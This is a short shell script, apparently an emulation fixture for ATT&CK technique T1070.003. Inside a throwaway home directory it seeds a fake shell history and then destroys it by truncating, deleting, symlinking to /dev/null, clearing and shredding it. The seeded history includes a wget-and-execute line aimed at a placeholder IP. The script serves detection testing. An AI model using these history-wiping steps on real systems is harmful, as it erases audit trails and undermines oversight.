# techniques: T1070.003
# Shell history wiped and disabled: ~/.bash_history truncated, deleted, replaced with a symlink
# to /dev/null, and `history -c` run through bash -c. HOME is a throwaway directory in the temp
# working directory; the real root history is untouched.
unset LD_LIBRARY_PATH
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH
HOME=$PWD/home; export HOME; mkdir -p "$HOME"
printf 'ls\nwget http://198.51.100.7/x\n./x\n' > "$HOME/.bash_history"
cp "$HOME/.bash_history" "$HOME/.zsh_history"
truncate -s 0 "$HOME/.bash_history"
: > "$HOME/.zsh_history"
rm -f "$HOME/.bash_history"
ln -sf /dev/null "$HOME/.bash_history"
HISTFILE=$HOME/.bash_history bash -c 'history -c; history -w' 2>/dev/null
shred -u "$HOME/.zsh_history" 2>/dev/null
rm -rf "$HOME"
exit 0
